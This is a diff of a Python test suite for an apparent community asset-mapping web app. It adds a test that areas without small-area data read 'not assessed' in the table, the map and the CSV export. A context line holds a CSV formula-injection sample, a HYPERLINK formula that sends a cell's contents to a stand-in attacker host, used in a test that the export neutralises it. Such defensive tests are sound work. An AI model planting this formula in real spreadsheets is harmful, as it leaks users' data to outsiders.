@@ -51,6 +51,37 @@ class TestAreas:
         assert not any(row["n"] in html for row in analysed.run_read(
             "MATCH (p:Person) RETURN p.name AS n LIMIT 50")), "no individual on the page"
 
+    def test_access_without_small_areas_reads_not_assessed(  # noqa: ANN001
+            self, client, sign_in, sample_store: GraphStore, config, acting) -> None:
+        """Only Powys has small areas loaded: every other authority's access and desert
+        figures, even one with a person recorded in Aberystwyth, read "not assessed" in the
+        table, the map, its key and the CSV."""
+        from assetmap import boundaries
+        from assetmap.services import areas
+        from assetmap.services import people as people_service
+
+        areas.import_areas(sample_store, boundaries.bundled(["local_authority",
+                                                            "health_board"]))
+        people_service.create(sample_store, {"name": "Aberystwyth Resident", "lat": 52.415,
+                                             "lon": -4.083}, "org-council", acting,
+                              config.instance_path)
+        analysis.run_analysis(sample_store)
+        sign_in("coordinator", "org-council")
+        stored = analysis.hotspots(sample_store, "local_authority")
+        assert next(r for r in stored if r["id"] == "W06000008")["people"] is None  # 1: withheld
+        unassessed = [row["id"] for row in stored if not row["access_assessed"]]
+        assert "W06000023" not in unassessed and len(unassessed) == 21
+        html = client.get("/areas/?level=local_authority&measure=access_per_1000").get_data(
+            as_text=True)
+        assert html.count("not assessed: needs small areas") == 21 * 2  # table and map
+        assert "not assessed (no small areas loaded): 21 areas" in html
+        assert "withheld (small numbers):" not in html
+        rows = list(csv.DictReader(io.StringIO(client.get(
+            "/areas/hotspots.csv?level=local_authority").get_data(as_text=True))))
+        for row in rows:
+            expected = "not assessed" if row["id"] in unassessed else None
+            assert (row["asset_desert"] == "not assessed") == bool(expected), row["id"]
+
     def test_csv_cells_a_spreadsheet_would_run_are_neutralised(self, client, sign_in,  # noqa: ANN001
                                                                 analysed: GraphStore) -> None:
         formula = '=HYPERLINK("http://evil.example/?"&A1,"Powys")'
